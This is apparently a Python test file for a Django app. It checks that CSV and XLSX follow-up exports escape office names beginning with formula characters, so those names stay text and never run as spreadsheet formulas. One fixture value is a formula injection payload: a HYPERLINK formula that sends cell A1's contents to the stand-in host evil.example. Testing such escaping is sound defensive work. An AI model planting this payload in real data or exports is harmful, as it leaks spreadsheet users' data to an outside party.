"""The follow-up exports never hand a spreadsheet a formula that someone typed as a name."""

import csv
import io

import pytest
from openpyxl import load_workbook

from followup import indicators
from followup.models import Event
from print import station
from print.models import Office

pytestmark = pytest.mark.django_db

# Office names as someone with admin rights could type them; each would run in Excel.
NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klicka här")',
    "+46 8 123 45",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PERIOD = "start=2000-01-01&end=2100-01-01"


@pytest.fixture
def printed_by_offices():
    """One print per office, counted as the station counts it: under the office's name."""
    for number, name in enumerate(NAMES, start=1):
        channel = station.channel(Office.objects.create(name=name))
        indicators.add(Event.CARD_PRINTED, number, life_event="sfi", language="ar", channel=channel)
    indicators.add(Event.CARD_PRINTED, 7, life_event="sfi", language="ar", channel="Kista")


def test_csv_keeps_formula_names_as_text_and_counts_as_numbers(follow_up, printed_by_offices):
    response = follow_up.get(f"/admin/follow-up/?{PERIOD}&event=card_printed&format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *rows, total = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    channel, count = header.index("Kanal"), header.index("Antal")
    channels = {row[channel]: row[count] for row in rows}
    assert channels == {
        **{"'" + name: str(number) for number, name in enumerate(NAMES, start=1)},
        "Kista": "7",  # an ordinary name is left as it is
    }
    assert total == ["Summa", *[""] * (len(header) - 2), str(sum(range(1, len(NAMES) + 1)) + 7)]


def test_xlsx_keeps_formula_names_as_text_and_counts_as_numbers(follow_up, printed_by_offices):
    response = follow_up.get(f"/admin/follow-up/?{PERIOD}&event=card_printed&format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[2]]
    columns = {"min_col": header.index("Kanal") + 1, "max_col": header.index("Antal") + 1}
    *rows, total = sheet.iter_rows(min_row=3, **columns)
    found = {}
    for channel, count in rows:
        assert channel.data_type == "s", channel.value  # text, never "f" (a formula)
        assert count.data_type == "n" and isinstance(count.value, int)
        found[channel.value] = count.value
    assert found == {
        **{"'" + name: number for number, name in enumerate(NAMES, start=1)},
        "Kista": 7,
    }
    assert total[-1].value == sum(range(1, len(NAMES) + 1)) + 7
